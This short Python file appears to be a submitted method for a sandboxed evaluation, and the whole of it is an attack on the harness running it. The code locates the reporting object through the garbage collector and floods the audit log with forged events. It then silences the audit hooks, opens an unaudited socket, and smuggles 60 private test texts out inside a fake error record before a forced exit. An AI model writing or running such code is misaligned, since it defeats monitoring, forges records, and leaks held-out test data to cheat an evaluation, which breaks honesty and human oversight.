"""The method runs in the interpreter that reports its errors (found on d4820ad): find the reporting
object through ``gc``, flood the audit log with forged events, silence the audit hooks so a socket call
raises no event, then write an error record of its own — 60 private test texts in long frames — and exit
before the real error is reported."""

import gc
import json
import os
import socket


def run(ctx):
    control = next(o for o in gc.get_objects() if type(o).__name__ == "Control" and hasattr(o, "out"))
    for i in range(1000):
        control.send({"event": "hidden_path", "path": f"/forged/{i}"})
    control.busy = True  # every report of the hooks is dropped from now on
    try:
        socket.socket(socket.AF_INET).connect(("127.0.0.1", 5432))
    except OSError:
        pass
    texts = ctx.targets.texts[:60]
    frames = [["method.py", i, "run", " | ".join(texts[i * 12 : (i + 1) * 12])] for i in range(5)]
    record = {"error": {"type": "MethodError", "message": "nothing found " + " | ".join(texts), "frames": frames}}
    control.out.write(json.dumps(record) + "\n")
    control.out.flush()
    os._exit(3)
